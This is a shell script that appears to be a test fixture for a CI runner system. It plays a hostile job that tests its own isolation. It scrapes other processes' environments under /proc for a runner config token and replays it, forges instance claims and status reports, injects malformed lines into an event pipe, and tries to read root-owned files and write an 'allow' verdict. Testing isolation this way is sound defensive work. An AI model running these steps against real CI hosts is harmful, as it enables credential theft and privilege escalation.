# shellcheck shell=sh
# A job that tries to get more than its own run: what it may read, it reads, and what it finds, it uses.
# Not here: what must come of it; no claim but the first may be answered with 200, and the case looks at that.

# The script's own functions make the claims; they are as good for the job as for the script.
attack() {
	sh -c '
		. /opt/jit-runners/boot functions
		read_parameters
		read_instance
		instance_id=${2:-$instance_id}
		prove_to_aws
		post /v1/claim "{\"v\":1,\"token\":\"$JIT_BOOT_TOKEN\",\"cloud\":\"aws\",\"instance_id\":\"$instance_id\",\"identity\":$identity}"
		echo "attack: claim for ${2:-itself} -> $status"
	' sh functions "$1"
}

echo 'attack: in its own name and in a sibling s, while it runs'
attack ''
attack "$(cat /opt/world/sibling)"

echo 'attack: what it finds of the config'
found=$(cat /proc/[0-9]*/environ 2>/dev/null | tr '\0' '\n' | grep '^ACTIONS_RUNNER_INPUT_JITCONFIG=' | head -n 1)
status=$(printf '{"encoded_jit_config":"%s"}' "${found#*=}" |
	curl --silent --output /dev/null --write-out '%{http_code}' --data-binary @- "$GITHUB_URL/_agent/connect")
echo "attack: connect again -> $status"
for pid in /proc/[0-9]*; do
	{ tr '\0' ' ' <"$pid/cmdline"; } 2>/dev/null | grep -q -- "${found#*=}" && echo 'attack: THE CONFIG IS IN THE ARGUMENTS'
done

echo 'attack: forged and repeated reports'
sh -c '
	. /opt/jit-runners/boot functions
	read_parameters
	read_instance
	for stage in job_finished exited interrupted; do
		post /v1/report "{\"v\":1,\"token\":\"$JIT_BOOT_TOKEN\",\"instance_id\":\"$instance_id\",\"stage\":\"$stage\",\"detail\":{}}"
		echo "attack: report $stage -> $status"
	done
	' sh functions
printf 'job_started octo-org/other push me 1 1 x\n%s\njob_started a","b":"c\n' "$(head -c 3000 /dev/zero | tr '\0' x)" 1<>/run/jit-runners/events

echo 'attack: what is root s'
cat /run/jit-runners/deadline /proc/1/environ 2>/dev/null && echo 'attack: READ WHAT IS ROOT S'
echo allow >/run/jit-runners/verdict && echo 'attack: WROTE THE VERDICT'

# After the job, too.
(
	sleep 0.4
	attack ''
) >/dev/null 2>&1 &
echo 'attack: done'
